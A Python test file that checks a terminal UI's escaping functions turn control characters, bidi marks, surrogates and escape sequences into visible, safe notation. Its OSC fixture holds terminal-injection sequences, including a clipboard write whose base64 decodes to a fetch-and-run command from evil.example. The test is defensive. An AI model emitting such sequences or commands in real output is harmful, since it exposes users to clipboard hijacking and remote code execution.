"""The one escaping policy: one notation, every character traceable, nothing raw on a terminal."""

from __future__ import annotations

import json
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from tui.core.escaping import escape_json, escape_line, escape_reflow, escape_text, utf8_safe

# An OSC 0 window title, an OSC 8 link, an OSC 52 clipboard write and a screen clear.
OSC = (
    "\x1b]0;pwned\x07title \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ "
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clip \x1b[2J"
)


# Unicode's Prepended_Concatenation_Mark characters (Arabic number signs, the end of ayah,
# Syriac and Kaithi marks): format characters that are part of the text they precede.
PREPENDED_MARKS = frozenset(
    [chr(c) for c in range(0x600, 0x606)]
    + ["\u06dd", "\u070f", "\u0890", "\u0891", "\u08e2", "\U000110bd", "\U000110cd"]
)


def _raw_dangerous(ch: str) -> bool:
    """What must never reach a terminal or viewer raw: controls other than tab and line feed,
    format characters other than the joiners scripts need, surrogates, line separators."""
    if ch in "\t\n\u00ad\u200c\u200d":
        return False
    return unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or (
        unicodedata.category(ch) == "Cf" and ch not in PREPENDED_MARKS
    )


def test_plain_text_is_unchanged() -> None:
    text = "Hello, world — ça va?\n\tNBSP\u00a0kept, emoji 👩\u200d💻, Persian می\u200cخواهم."
    assert escape_text(text) == text


def test_escape_sequences_become_control_pictures() -> None:
    out = escape_text(OSC)
    assert "\x1b" not in out and "\x07" not in out
    assert out.startswith("\u241b]0;pwned\u2407title \u241b]8;;http://evil.example\u241b\\link")


def test_one_notation_for_c0_c1_del_bidi_zero_width_and_bytes() -> None:
    assert escape_text("a\x00b\x07c\x7fd\x9be") == "a\u2400b\u2407c\u2421d<U+009B>e"
    assert escape_text("Bidi \u202elive\u202c") == "Bidi <U+202E>live<U+202C>"
    assert escape_text("abc\u2066x\u2069\u200f") == "abc<U+2066>x<U+2069><U+200F>"
    assert escape_text("zero\u200bwidth\ufeff \U000e0041") == "zero<U+200B>width<U+FEFF> <U+E0041>"
    assert escape_line("caf\udce9.txt") == "caf<0xE9>.txt"
    assert escape_text("\ud800") == "<U+D800>"


def test_line_breaks_per_policy() -> None:
    text = "one\r\ntwo\nthree\u2028four\x85five\rsix\tseven"
    # Files: \n and \r\n are line breaks; separators a table or CSV row cannot hold are shown.
    assert escape_text(text) == "one\ntwo\nthree<U+2028>four<U+0085>five\u240dsix\tseven"
    # The app reflows: every line break is a space, tabs expand to the grid.
    assert escape_reflow(text) == "one two three four five\u240dsix seven"
    assert escape_reflow("ab\tc") == "ab  c"
    assert escape_reflow("a\tb") == "a   b"
    # One line: names, paths, warnings.
    assert escape_line(text) == "one\u2424two\u2424three\u2424four\u2424five\u240dsix\u2409seven"


def test_markup_is_left_literal() -> None:
    # Markup is only dangerous when parsed; escaping must not mangle it.
    assert escape_reflow("[bold red]x[/]") == "[bold red]x[/]"


@given(st.text())
def test_nothing_dangerous_survives(text: str) -> None:
    for out in (escape_text(text), escape_reflow(text), escape_line(text)):
        assert not any(_raw_dangerous(ch) for ch in out), repr(out)
        out.encode("utf-8")  # strict: no lone surrogate
    assert "\n" not in escape_line(text) and "\t" not in escape_line(text)


@given(st.lists(st.text(max_size=12), max_size=8))
def test_each_character_maps_to_its_own_replacement(pieces: list[str]) -> None:
    """Spans escaped on their own line up with the whole (the app colours diff spans so),
    as long as no piece ends between the two halves of a \\r\\n."""
    if any(a.endswith("\r") and b.startswith("\n") for a, b in zip(pieces, pieces[1:])):  # noqa: B905
        return
    assert "".join(escape_text(p) for p in pieces) == escape_text("".join(pieces))
    assert "".join(escape_line(p) for p in pieces) == escape_line("".join(pieces))


@given(st.text())
def test_json_escaping_keeps_values_exact(text: str) -> None:
    dumped = escape_json(json.dumps({"t": text}, ensure_ascii=False))
    assert json.loads(dumped) == {"t": text}
    assert not any(_raw_dangerous(ch) for ch in dumped)


def test_utf8_safe_only_replaces_undecodable_bytes() -> None:
    assert utf8_safe("caf\udce9 \u202e.txt") == "caf<0xE9> \u202e.txt"
